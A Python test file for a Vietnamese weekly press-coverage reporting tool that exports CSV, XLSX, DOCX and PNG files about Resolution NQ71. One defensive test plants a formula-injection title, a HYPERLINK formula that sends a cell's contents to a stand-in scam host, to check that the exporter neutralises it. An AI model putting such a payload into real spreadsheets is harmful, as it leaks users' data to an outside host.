"""Report files opened and checked: CSV values, XLSX sheets and cells, DOCX text and tables, PNG size."""

from __future__ import annotations

import csv
import struct
from pathlib import Path

from click.testing import CliRunner
from docx import Document
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from report.charts import coverage_png
from report.export import SHEET_FLAGGED, SHEET_OUTLETS, SHEET_SUMMARY, SHEET_TREND, SHEET_ZERO
from report.files import write_weekly_set
from settings import Settings
from tests.report.report_data import WEEK, build_week, ict


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", data[16:24])
    return int(width), int(height)


def _files(sessions: sessionmaker[Session], settings: Settings) -> dict[str, Path]:
    with sessions() as s, s.begin():
        build_week(s)
    with sessions() as s:
        paths = write_weekly_set(s, settings, WEEK)
    return {p.suffix.lstrip("."): p for p in paths}


def test_weekly_set_lands_in_the_week_folder(sessions: sessionmaker[Session], settings: Settings) -> None:
    files = _files(sessions, settings)
    assert sorted(files) == ["csv", "docx", "png", "xlsx"]
    assert all(p.parent == settings.reports_dir / WEEK and p.stat().st_size > 0 for p in files.values())
    assert not list((settings.reports_dir / WEEK).glob("*.part"))  # nothing half-written left behind


def test_csv_has_a_row_per_outlet_and_a_total(sessions: sessionmaker[Session], settings: Settings) -> None:
    files = _files(sessions, settings)
    with files["csv"].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by = {r["Mã cơ quan"]: r for r in rows}
    assert len(rows) == 7 and all(r["Kỳ"] == WEEK for r in rows)
    assert by["bao-hai-phong"]["Tổng tin"] == "6" and by["bao-hai-phong"]["Tin không rõ ngày"] == "1"
    assert by["bao-hai-phong"]["Có chuyên mục NQ71"] == "Có"
    assert by["vnexpress-giao-duc"]["Trung vị giờ đến kết luận"] == "6.0"
    assert by["TONG"]["Tổng tin NQ71"] == "10" and by["TONG"]["Nhóm 4: Nội dung, phương pháp"] == "4"


def test_xlsx_has_a_sheet_per_view(sessions: sessionmaker[Session], settings: Settings) -> None:
    files = _files(sessions, settings)
    wb = load_workbook(files["xlsx"])
    assert wb.sheetnames == [SHEET_SUMMARY, SHEET_OUTLETS, SHEET_ZERO, SHEET_FLAGGED, SHEET_TREND]
    summary = {row[0]: row[1] for row in wb[SHEET_SUMMARY].iter_rows(min_row=2, values_only=True)}
    assert summary["Tổng số tin (tin đăng lại tính cho từng cơ quan)"] == 16
    assert summary["Số câu chuyện (bản gốc và bản đăng lại tính một lần)"] == 14
    assert summary["Cơ quan báo chí thành phố có tin NQ71"] == "1/2"
    outlets = list(wb[SHEET_OUTLETS].iter_rows(values_only=True))
    header = list(outlets[0])
    row = next(r for r in outlets if r[1] == "cong-tt-hai-phong")
    assert row[header.index("Trong đó tin đăng lại")] == 1 and row[header.index("Tỷ lệ NQ71/tin giáo dục (%)")] == 100.0
    zero = [r[1] for r in wb[SHEET_ZERO].iter_rows(min_row=2, values_only=True)]
    assert zero == ["bao-an-ninh-hai-phong", "thcs-le-chan"]
    verdicts = sorted(str(r[6] or "") for r in wb[SHEET_FLAGGED].iter_rows(min_row=2, values_only=True))
    assert verdicts == ["", "Tin giả", "Tin sai sự thật", "Tin xác thực"]
    trend = list(wb[SHEET_TREND].iter_rows(values_only=True))
    assert trend[0][-1] == WEEK and len(trend[0]) == 2 + 8
    assert next(r for r in trend if r[0] == "bao-hai-phong")[-1] == 3


def test_docx_reads_as_an_administrative_report(sessions: sessionmaker[Session], settings: Settings) -> None:
    files = _files(sessions, settings)
    doc = Document(str(files["docx"]))
    header = [c.text for c in doc.tables[0].rows[0].cells]
    assert header[0].startswith("ỦY BAN NHÂN DÂN THÀNH PHỐ HẢI PHÒNG\nSỞ VĂN HÓA, THỂ THAO VÀ DU LỊCH")
    assert header[1].startswith("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc")
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "BÁO CÁO" in text
    assert "tuần 47 (16/11–22/11/2026)" in text and "2026-W47" not in text
    assert "Báo An ninh Hải Phòng" in text  # city press without NQ71 coverage named
    summary = {r.cells[0].text: r.cells[1].text for r in doc.tables[1].rows}
    assert summary["Tin về NQ71 (nêu rõ + theo nhiệm vụ)"] == "10"
    assert summary["Tin không xác định được ngày đăng (không tính vào kỳ)"] == "1"
    outlets = doc.tables[2]
    assert len(outlets.rows) == 1 + 6
    assert any(r.cells[1].text == "VnExpress - Giáo dục" and r.cells[2].text == "4" for r in outlets.rows)
    flagged = doc.tables[3]
    assert {r.cells[4].text for r in list(flagged.rows)[1:]} == {"Tin giả", "Tin sai sự thật", "Tin xác thực", "—"}
    assert len(doc.inline_shapes) == 1  # the coverage chart


def test_png_chart_size_grows_with_outlets(sessions: sessionmaker[Session], settings: Settings) -> None:
    files = _files(sessions, settings)
    width, height = png_size(files["png"].read_bytes())
    assert width >= 800 and 300 <= height <= 600
    with sessions() as s:
        w12, h12 = png_size(coverage_png(s, 12, settings))
    assert w12 > width and h12 == height


def test_cli_report_weekly_table_and_files(sessions: sessionmaker[Session], settings: Settings, tmp_path: Path) -> None:
    with sessions() as s, s.begin():
        build_week(s)
    from cli import main

    env = {"NQ71_DATABASE_URL": settings.database_url, "NQ71_REPORTS_DIR": str(tmp_path / "out"), "NQ71_LOG_LEVEL": "WARNING"}
    runner = CliRunner()
    result = runner.invoke(main, ["report", "weekly", "--week", WEEK], env=env)
    assert result.exit_code == 0, result.output
    assert "bao-hai-phong" in result.output and "no NQ71 item" in result.output and "bao-an-ninh-hai-phong*" in result.output
    out = tmp_path / "x" / "q4.xlsx"
    result = runner.invoke(main, ["report", "period", "--from", "01/10/2026", "--to", "2026-12-31", "--format", "xlsx", "--out", str(out)], env=env)
    assert result.exit_code == 0, result.output
    assert load_workbook(out)[SHEET_SUMMARY]["B2"].value == "01/10–31/12/2026"  # the period as people write it
    result = runner.invoke(main, ["report", "weekly", "--week", "2026-47"], env=env)
    assert result.exit_code == 2 and "write it like 2026-W47" in result.output
    result = runner.invoke(main, ["report", "period", "--from", "2026-12-31", "--to", "2026-10-01"], env=env)
    assert result.exit_code == 2 and "swap --from and --to" in result.output


def test_chart_is_redrawn_only_when_figures_change(sessions: sessionmaker[Session], settings: Settings) -> None:
    from report.charts import weeks_png

    with sessions() as s, s.begin():
        b = build_week(s)
    with sessions() as s:
        first = weeks_png(s, WEEK, 8, settings)
        assert weeks_png(s, WEEK, 8, settings) is first  # same figures: the cached drawing
    with sessions() as s, s.begin():
        from store.models import Relevance

        b.s = s
        b.article("n1", "thcs-le-chan", "Trường THCS Lê Chân sinh hoạt chuyên đề Nghị quyết 71", ict(20, 9), rel=Relevance.explicit, themes=(1,))
    with sessions() as s:
        again = weeks_png(s, WEEK, 8, settings)
    assert again != first and png_size(again) == png_size(first)


def test_csv_and_xlsx_cells_never_start_a_formula(sessions: sessionmaker[Session], settings: Settings) -> None:
    """A crawled title or outlet name that looks like a formula is written as plain text (leading apostrophe)."""
    from sqlalchemy import update

    from store.models import Article, Outlet

    with sessions() as s, s.begin():
        build_week(s)
        s.execute(update(Article).values(title='=HYPERLINK("http://lừa-đảo.example/?"&A1,"Bấm vào đây")'))
        s.execute(update(Outlet).where(Outlet.slug == "bao-hai-phong").values(name="+84 Báo Hải Phòng"))
    with sessions() as s:
        paths = {p.suffix.lstrip("."): p for p in write_weekly_set(s, settings, WEEK)}
    with paths["csv"].open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'+84 Báo Hải Phòng" in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    wb = load_workbook(paths["xlsx"])
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(ws_cell.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for ws_cell in row)
    titles = [r[2] for r in wb[SHEET_FLAGGED].iter_rows(min_row=2, values_only=True)]
    assert titles and all(str(t).startswith("'=HYPERLINK(") for t in titles)
    assert not [v for v in values if isinstance(v, str) and v[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_chart_colours_step_by_whole_counts() -> None:
    from report.charts import colour_scale, week_tick, weeks_text

    cmap, norm, ticks = colour_scale(3)
    assert ticks == [0, 1, 2, 3]
    assert cmap(norm(1)) == cmap(norm(1.4)) != cmap(norm(2))  # one colour per count, no 1,5 shades
    assert all(isinstance(t, int) for t in colour_scale(57)[2])
    assert week_tick("2026-W48") == "Tuần 48\n23/11"
    assert weeks_text(["2026-W41", "2026-W48"]) == "Tuần 41 (05/10–11/10/2026) – Tuần 48 (23/11–29/11/2026)"


def test_figures_are_written_the_vietnamese_way() -> None:
    from report.cells import vn_number

    assert [vn_number(v) for v in (82.4, 1234, 1234.5, None, 0)] == ["82,4", "1.234", "1.234,5", "—", "0"]
    assert vn_number(0.9512, 2) == "0,95"  # the queue's priority
